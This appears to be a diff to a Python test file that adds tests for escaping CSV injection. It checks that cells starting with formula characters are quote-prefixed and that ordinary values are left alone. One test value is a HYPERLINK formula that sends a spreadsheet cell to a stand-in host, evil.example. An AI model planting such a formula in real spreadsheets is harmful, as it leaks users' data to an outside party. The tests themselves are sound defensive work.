@@ -27,6 +27,46 @@ def test_csv_keeps_quotes_line_ends_and_nested_values() -> None:
     assert second == ["", "", "2.5", "[]", "", "2"]
 
 
+FORMULAS = (
+    *("=1+1", "+1", "-1+2", "@SUM(A1)", "＝1", "＋1", "－1", "＠SUM", "\t=1", "\r=1", "\n=1", "  =1", "\tx"),
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+)
+
+
+def read_csv(text: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.decode(), newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_a_spreadsheet_would_run_is_a_text_in_csv(text: str) -> None:
+    """Source: OWASP, "CSV Injection"."""
+    head, row = read_csv(written(RowFormat.CSV, (text,), [[text]]))
+    assert (head, row) == ([f"'{text}"], [f"'{text}"])
+    assert read_csv(written(RowFormat.CSV, (text,), [[text]], raw=True)) == [[text], [text]]
+    assert json.loads(written(RowFormat.JSON, ("a",), [[text]])) == [{"a": text}]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-5, "-5"),
+        (-2.5, "-2.5"),
+        (True, "true"),
+        (["=1"], '["=1"]'),
+        ({"=": "-1"}, '{"=": "-1"}'),
+        (date(2026, 5, 1), "2026-05-01"),
+        ("1-2", "1-2"),
+        ("a=b", "a=b"),
+        ("'", "'"),
+        ("", ""),
+        ("  ", "  "),
+        ("茶", "茶"),
+    ],
+)
+def test_numbers_and_ordinary_texts_are_as_they_were(value: object, cell: str) -> None:
+    assert read_csv(written(RowFormat.CSV, ("a",), [[value]]))[1] == ([cell] if cell else [""])
+
+
 def test_json_and_its_lines_hold_the_same_objects() -> None:
     whole = json.loads(written(RowFormat.JSON, COLUMNS[:5], [row[:5] for row in ROWS]))
     lines = written(RowFormat.JSONL, COLUMNS[:5], [row[:5] for row in ROWS]).decode().splitlines()
